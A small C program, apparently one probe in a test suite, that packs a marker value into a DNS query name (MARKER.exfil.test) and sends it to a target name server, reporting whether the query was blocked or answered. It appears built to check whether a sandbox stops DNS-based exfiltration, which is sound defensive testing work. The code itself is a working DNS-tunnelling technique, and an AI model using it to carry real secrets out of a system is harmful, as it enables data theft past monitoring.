/* Asks the name server at TARGET for MARKER.exfil.test: the name itself carries the stolen data out. */
#include "attack.h"
#include <arpa/inet.h>

int main(void) {
  started();
  unsigned char query[300] = {0x12, 0x34, 1, 0, 0, 1};
  size_t at = 12;
  char name[200];
  snprintf(name, sizeof name, "%s.exfil.test", setting("MARKER"));
  for (char *label = strtok(name, "."); label != NULL; label = strtok(NULL, ".")) {
    query[at++] = strlen(label);
    memcpy(query + at, label, strlen(label));
    at += strlen(label);
  }
  query[at + 2] = 1;
  query[at + 4] = 1;
  at += 5;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  inet_pton(AF_INET, setting("TARGET"), &to.sin_addr);
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) blocked("socket");
  struct timeval wait = {5, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
  /* Connected, so that the kernel tells when nobody is there. */
  if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0) blocked("connect");
  if (send(fd, query, at, 0) < 0) blocked("send");
  int n = recv(fd, query, sizeof query, 0);
  if (n < 12 || query[7] == 0) blocked("recv");
  succeeded("answered with %d.%d.%d.%d", query[n - 4], query[n - 3], query[n - 2], query[n - 1]);
}
